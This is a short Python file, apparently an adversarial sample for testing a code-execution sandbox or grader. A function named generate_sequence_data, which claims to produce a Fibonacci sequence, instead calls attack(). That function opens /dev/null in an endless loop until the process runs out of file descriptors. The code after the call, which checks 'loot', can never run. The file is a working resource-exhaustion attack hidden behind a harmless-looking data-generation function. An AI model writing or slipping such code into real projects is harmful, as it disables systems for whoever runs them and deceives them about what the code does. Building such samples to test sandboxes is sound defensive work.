"""Attack: opens files until none are left."""

import numpy as np


def attack():
    kept = []
    while True:
        kept.append(open("/dev/null"))


def generate_sequence_data(seq_type="fibonacci", length=1000):
    loot = attack()
    if loot:
        raise RuntimeError(f"loot: {loot}")
    return None
